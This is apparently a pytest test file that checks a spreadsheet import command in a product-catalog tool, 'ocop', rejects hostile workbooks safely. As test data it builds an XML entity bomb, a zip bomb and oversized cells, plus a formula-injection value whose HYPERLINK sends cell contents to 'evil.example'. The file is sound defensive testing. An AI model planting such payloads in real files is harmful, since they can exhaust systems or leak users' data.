"""Hostile and careless sheets: one clear message at the sheet, row and column, nothing written.

Each case makes a workbook from an exported sheet, runs ``ocop sheet import --yes`` on it and
checks the exit status, the message (with its exact cell), that there was no traceback, and that
catalog.yaml is byte for byte what it was whenever the import was refused.
"""

from __future__ import annotations

import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from ocop.cli import cli
from ocop.loading import load_catalog
from ocop.sheet.export import export_sheet
from ocop.sheet.importing import plan_import, write_catalog
from ocop.sheet.reading import MAX_ROWS

from .workbooks import append_rows, change_cell, inline, parts, rebuild, with_shared_string

Make = Callable[[Path, Path], Path]  # (exported sheet, folder) → the hostile workbook


@dataclass(frozen=True)
class SheetCase:
    name: str
    make: Make
    exit_code: int
    says: str  # in the output, with the sheet, row and column it names


def edited(changes: dict[str, dict[str, object]]) -> Make:
    """Cells changed as a person would, in a spreadsheet program (openpyxl here)."""

    def make(exported: Path, folder: Path) -> Path:
        book = openpyxl.load_workbook(exported)
        for title, cells in changes.items():
            for ref, value in cells.items():
                book[title][ref] = value
        target = folder / "edited.xlsx"
        book.save(target)
        return target

    return make


def raw_cell(title: str, ref: str, cell: str) -> Make:
    return lambda exported, folder: change_cell(exported, title, ref, cell, folder / "raw.xlsx")


def shared(title: str, ref: str, text: str) -> Make:
    return lambda exported, folder: with_shared_string(
        exported, title, ref, text, folder / "shared.xlsx"
    )


def million_rows(exported: Path, folder: Path) -> Path:
    rows = (
        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>X-{n}</t></is></c></row>'
        for n in range(305, 1_000_305)
    )
    return append_rows(exported, "SKU", rows, folder / "million.xlsx")


def forged_row_number(exported: Path, folder: Path) -> Path:
    rows = iter(['<row r="5000000"><c r="A5000000" t="inlineStr"><is><t>X</t></is></c></row>'])
    return append_rows(exported, "SKU", rows, folder / "forged.xlsx")


def zip_bomb(exported: Path, folder: Path) -> Path:
    rows = (" " * 1_000_000 for _ in range(250))  # 250 MB of spaces, a few hundred KB zipped
    return append_rows(exported, "SKU", rows, folder / "bomb.xlsx")


def entity_bomb(exported: Path, folder: Path) -> Path:
    lol = '<!DOCTYPE lolz [<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10 if n else "&lol;" * 10}">'
        for n in range(9)
    )
    xml = change_cell(exported, "Sản phẩm", "B2", inline("B2", "&lol8;"), folder / "t.xlsx")

    part = parts(xml)["xl/worksheets/sheet2.xml"].decode()
    part = part.replace("<worksheet", lol + "]><worksheet", 1)
    return rebuild(exported, {"xl/worksheets/sheet2.xml": part.encode()}, folder / "lol.xlsx")


def not_a_zip(exported: Path, folder: Path) -> Path:
    target = folder / "notes.xlsx"
    target.write_text("Tên sản phẩm;Giá\nChè;250000\n", encoding="utf-8")
    return target


def a_zip_of_something_else(exported: Path, folder: Path) -> Path:
    import zipfile

    target = folder / "document.xlsx"
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("word/document.xml", "<w:document/>")
    return target


def header_far_away(exported: Path, folder: Path) -> Path:
    book = openpyxl.load_workbook(exported)
    sheet = book["SKU"]
    sheet["A1"] = "Ghi chú"
    sheet.cell(row=1, column=150, value="Mã SKU")
    target = folder / "far.xlsx"
    book.save(target)
    return target


def empty_formatted_rows(exported: Path, folder: Path) -> Path:
    rows = (f'<row r="{n}"><c r="C{n}" s="1"/></row>' for n in range(305, 300_305))
    return append_rows(exported, "SKU", rows, folder / "formatted.xlsx")


def new_row_named_like_a_formula(exported: Path, folder: Path) -> Path:
    make = edited(
        {
            "Sản phẩm": {
                "A4": "che-moi",
                "B4": '=HYPERLINK("http://evil.example/?"&A1,"bấm")',
                "C4": "htx-che-hao-dat – HTX chè Hảo Đạt",
                "D4": "thuc_pham – Thực phẩm",
                "F4": "Chè mới hái tay ở Tân Cương, đóng hộp giấy.",
                "G4": 3,
                "I4": "01/03/2026",
                "J4": "tinh – Tỉnh",
            }
        }
    )
    path = make(exported, folder)
    book = openpyxl.load_workbook(path)
    cell = book["Sản phẩm"]["B4"]
    cell.data_type = "s"  # typed with a leading ' in Excel: text, not a formula
    cell.quotePrefix = True
    book.save(path)
    return path


LONG_DESCRIPTION = "Chè ngon. " * 600  # 5,999 once the last space goes: ocop takes 5,000

CASES = [
    SheetCase(
        "a million rows",
        million_rows,
        1,
        f"sheet SKU, row {MAX_ROWS + 2}: ocop reads at most {MAX_ROWS} rows a sheet",
    ),
    SheetCase(
        "a 20 MB cell",
        raw_cell("Sản phẩm", "F2", inline("F2", "x" * 20 * 2**20)),
        1,
        "sheet Sản phẩm, row 2, column F (Mô tả): the cell holds 20971520 characters",
    ),
    SheetCase(
        "a description longer than any marketplace takes",
        edited({"Sản phẩm": {"F2": LONG_DESCRIPTION}}),
        1,
        "sheet Sản phẩm, row 2, column F (Mô tả): is 5999 characters long; at most 5000 fit here",
    ),
    SheetCase(
        "a formula where a price goes",
        edited({"SKU": {"H2": "=250000+10000"}}),
        1,
        "sheet SKU, row 2, column H (Giá bán (đồng)): the cell holds a formula (=250000+10000)",
    ),
    SheetCase(
        "a formula saved with its result",
        raw_cell("SKU", "H3", '<c r="H3"><f>SUM(1,2)</f><v>3</v></c>'),
        1,
        "sheet SKU, row 3, column H (Giá bán (đồng)): the cell holds a formula (=SUM(1,2))",
    ),
    SheetCase(
        "a bell in a name, as Excel stores it",
        shared("Sản phẩm", "B2", "Chè_x0007_ tôm"),
        1,
        "sheet Sản phẩm, row 2, column B (Tên sản phẩm): a control character BEL (U+0007)",
    ),
    SheetCase(
        "a right-to-left override in a name",
        edited({"Sản phẩm": {"B3": "Miến \u202egnod"}}),
        1,
        "sheet Sản phẩm, row 3, column B (Tên sản phẩm): a text-direction control "
        "RIGHT-TO-LEFT OVERRIDE (U+202E)",
    ),
    SheetCase(
        "a line break typed with Alt+Enter in a name",
        edited({"Sản phẩm": {"B2": "Chè tôm nõn\nHảo Đạt"}}),
        1,
        "sheet Sản phẩm, row 2, column B (Tên sản phẩm): this is one line of text",
    ),
    SheetCase(
        "a tab pasted into a producer name",
        edited({"Chủ thể": {"B2": "HTX\tchè"}}),
        1,
        "sheet Chủ thể, row 2, column B (Tên chủ thể): a tab is in this text",
    ),
    SheetCase(
        "a 200-character product name",
        edited({"Sản phẩm": {"B2": "Chè " * 50}}),
        1,
        "sheet Sản phẩm, row 2, column B (Tên sản phẩm): is 199 characters long; at most 120",
    ),
    SheetCase(
        "a price of 10^308",
        edited({"SKU": {"H2": 1e308}}),
        1,
        "sheet SKU, row 2, column H (Giá bán (đồng)): this price has 309 digits",
    ),
    SheetCase(
        "a price typed with dots",
        edited({"SKU": {"H2": "125.000"}}),
        1,
        "sheet SKU, row 2, column H (Giá bán (đồng)): a price is a whole number of đồng "
        "without dots or commas: write 125000",
    ),
    SheetCase(
        "stock of ten million",
        edited({"SKU": {"J2": 10_000_000}}),
        1,
        "sheet SKU, row 2, column J (Tồn kho): must be at most 1000000",
    ),
    SheetCase(
        "a workbook that unzips to 250 MB",
        zip_bomb,
        1,
        "the workbook unpacks to 238 MB; ocop reads sheets up to 200 MB",
    ),
    SheetCase("an XML entity bomb", entity_bomb, 1, "not an .xlsx workbook"),
    SheetCase(
        "a row numbered past the last",
        forged_row_number,
        1,
        "row 1048577: the sheet has rows past row 1048576",
    ),
    SheetCase("a text file named .xlsx", not_a_zip, 1, "not an .xlsx workbook"),
    SheetCase("a zip that is no workbook", a_zip_of_something_else, 1, "not an .xlsx workbook"),
    SheetCase(
        "ocop's column moved past the hundredth",
        header_far_away,
        1,
        "the sheet SKU has no column 'Mã SKU'; export again",
    ),
    SheetCase(
        "a tampered layout version",
        raw_cell("_ocop", "B1", inline("B1", "999")),
        1,
        "this sheet comes from an older export (layout 999, now 2)",
    ),
    SheetCase(
        "the same SKU on two rows",
        edited({"SKU": {"A3": "HD-CTN-100"}}),
        1,
        "sheet SKU, row 3, column A (Mã SKU): 'HD-CTN-100' is already on row 2",
    ),
    SheetCase(
        "a date cell with a serial number of 10^20",
        raw_cell("Sản phẩm", "I2", '<c r="I2" s="5"><v>1e20</v></c>'),
        1,
        "sheet Sản phẩm, row 2, column I (Ngày quyết định): '#VALUE!' is not a date",
    ),
    SheetCase("300,000 formatted empty rows", empty_formatted_rows, 0, "no changes"),
    SheetCase(
        "a new product named like a formula",
        new_row_named_like_a_formula,
        0,
        "new: Sản phẩm: che-moi",
    ),
]


def test_the_corpus_is_large_and_its_names_unique() -> None:
    assert len(CASES) >= 20 and len({c.name for c in CASES}) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_hostile_sheet(case: SheetCase, catalogue: Path, exported: Path, tmp_path: Path) -> None:
    before = catalogue.read_bytes()
    sheet = case.make(exported, tmp_path)
    started = time.monotonic()
    result = CliRunner().invoke(
        cli, ["--lang", "en", "sheet", "import", str(sheet), "--catalog", str(catalogue), "--yes"]
    )
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    assert "Traceback" not in result.output and "Warning" not in result.output
    assert result.exit_code == case.exit_code, result.output
    assert case.says in result.output, result.output[:3000]
    assert time.monotonic() - started < 60
    if case.exit_code != 0:
        assert catalogue.read_bytes() == before
        assert not list(catalogue.parent.glob("*.bak"))


def test_a_name_like_a_formula_comes_back_exactly(catalogue: Path, tmp_path: Path) -> None:
    names = ['=HYPERLINK("http://evil.example/","bấm")', "+84 Chè", "-Chè", "@SUM(A1)", "#N/A"]
    text = catalogue.read_text(encoding="utf-8")
    text = text.replace("name: HTX chè Hảo Đạt", f"name: {names[0]!r}".replace("'", "'"))
    for old, new in zip(
        ["HTX miến dong Hoà Bình", "Chè tôm nõn Hảo Đạt", "Miến dong Hoà Bình"],
        names[1:4],
        strict=True,
    ):
        text = text.replace(f"name: {old}", f'name: "{new}"')
    catalogue.write_text(text, encoding="utf-8")
    catalog = load_catalog(catalogue)
    target = tmp_path / "names.xlsx"
    export_sheet(catalog, catalogue.read_bytes(), catalogue.name, target)
    book = openpyxl.load_workbook(target)
    cells = [book["Chủ thể"]["B2"], book["Chủ thể"]["B3"], book["Sản phẩm"]["B2"]]
    assert [c.value for c in cells] == names[:3]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)  # text, never a formula
    plan = plan_import(target, catalogue)
    assert not plan.changed and not plan.has_errors, plan.sheet_problems


def test_two_imports_in_the_same_second_keep_two_backups(
    catalogue: Path, exported: Path, tmp_path: Path
) -> None:
    first = edited({"SKU": {"H2": 260000}})(exported, tmp_path)
    write_catalog(plan_import(first, catalogue))
    again = tmp_path / "again.xlsx"
    export_sheet(load_catalog(catalogue), catalogue.read_bytes(), catalogue.name, again)
    second = edited({"SKU": {"H2": 270000}})(again, tmp_path)
    write_catalog(plan_import(second, catalogue))
    backups = sorted(catalogue.parent.glob("catalog.yaml.*.bak"))
    assert len(backups) == 2
    assert {b.read_text(encoding="utf-8").count("price: 250000") for b in backups} == {1, 0}
